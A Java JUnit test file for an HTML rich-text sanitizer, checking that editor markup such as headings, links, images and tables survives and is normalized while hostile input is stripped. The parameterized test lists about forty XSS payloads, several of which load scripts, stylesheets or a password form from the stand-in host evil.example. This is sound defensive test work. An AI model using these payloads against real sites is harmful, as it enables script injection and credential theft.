package io.leadwell.acquire.content;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Locale;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class RichTextTests {

  private static final String HASH = "a".repeat(64);

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src='javascript:alert(1)'>",
        "<img src=\"https://evil.example/pixel.gif\">",
        "<img src=\"/p/i/../../api/v1/users\">",
        "<img src=\"/p/i/aaaaaaaa\" onload=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href='x' onclick='alert(1)'>x</a>",
        "<a href=\"https://a.example\" style=\"position:fixed;inset:0\">x</a>",
        "<svg onload=alert(1)><path d='M0 0'/></svg>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
        "<embed src=\"//evil.example/x.swf\">",
        "<form action=\"https://evil.example\"><input name=password><button>go</button></form>",
        "<style>@import '//evil.example/x.css'</style>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<base href=\"https://evil.example/\">",
        "<p style=\"background:url(javascript:alert(1))\">x</p>",
        "<p id=gate class=card data-lw-content=other>x</p>",
        "<div><p><b onmouseover=alert(1)>x",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<!-- --!><img src=x onerror=alert(1)> -->",
        "<template><script>alert(1)</script></template>",
        "<video src=x onerror=alert(1)></video>",
        "<details open ontoggle=alert(1)>",
        "\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>",
        "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
        "${7*7} @if(true) {{constructor.constructor('alert(1)')()}}"
      })
  void nothing_that_runs_or_reaches_out_is_left(String hostile) {
    String clean = String.valueOf(RichText.clean("<p>before</p>" + hostile + "<p>after</p>"));
    String tags = tagsOf(clean);
    assertThat(tags)
        .doesNotContainPattern("<(script|svg|math|iframe|object|embed|form|input|button|style)")
        .doesNotContainPattern("<(link|meta|base|template|video|details|textarea|noscript|x:)")
        .doesNotContainPattern("\\son[a-z]+\\s*=")
        .doesNotContain("javascript:", "vbscript:", "data:", "style=", "srcdoc", "evil.example")
        .doesNotContain(" id=", "data-lw");
    assertThat(RichText.clean(clean)).as("cleaned again it is the same").isEqualTo(clean);
  }

  /** What browsers take for tags, in lower case; escaped text is none. */
  private static String tagsOf(String html) {
    StringBuilder tags = new StringBuilder();
    for (int at = html.indexOf('<'); at >= 0; at = html.indexOf('<', at + 1)) {
      int end = html.indexOf('>', at);
      tags.append(html, at, end < 0 ? html.length() : end + 1).append('\n');
    }
    return tags.toString().toLowerCase(Locale.ROOT);
  }

  @Test
  void what_an_editor_makes_stays() {
    String article =
        "<h2>为什么</h2><p>一段<strong>重点</strong>和<em>语气</em>，<a"
            + " href=\"https://example.com/a?b=1\">链接</a></p><ul><li><p>其一</p></li></ul><img"
            + " src=\"/p/i/"
            + HASH
            + "\" alt=\"图\"><table><tbody><tr><td colspan=\"2\">格</td></tr></tbody></table>";

    String clean = RichText.clean(article);

    assertThat(clean)
        .contains("<h2>为什么</h2>", "<strong>重点</strong>", "/p/i/" + HASH, "colspan=\"2\"")
        .contains("rel=\"noopener nofollow\"");
    assertThat(RichText.pictures(clean)).containsExactly(HASH);
  }

  @Test
  void tags_of_other_days_become_those_of_today() {
    assertThat(RichText.clean("<h1>标题</h1><div>段落<b>粗</b><i>斜</i><del>删</del></div>"))
        .isEqualTo("<h2>标题</h2><p>段落<strong>粗</strong><em>斜</em><s>删</s></p>");
  }

  @Test
  void an_empty_text_is_none() {
    assertThat(RichText.clean(null)).isNull();
    assertThat(RichText.clean("  ")).isNull();
    assertThat(RichText.clean("<p></p><p><br></p>")).isNull();
    assertThat(RichText.clean("<script>alert(1)</script>")).isNull();
  }

  @Test
  void a_text_is_cut_between_its_blocks() {
    String clean =
        RichText.clean("开头<p>一<br>二</p><ul><li><p>甲</p></li><li>乙</li></ul><hr><p>末</p>");

    List<String> blocks = RichText.blocks(clean);

    assertThat(blocks).hasSize(5);
    assertThat(String.join("", blocks)).isEqualTo(clean);
    assertThat(blocks.get(2)).startsWith("<ul>").endsWith("</ul>").contains("甲", "乙");
  }

  @Test
  void plain_words_are_those_a_reader_sees() {
    assertThat(RichText.plain(RichText.clean("<h2>A &amp; B</h2><p>c&lt;d&nbsp; e</p>")))
        .isEqualTo("A & B c<d e");
  }
}
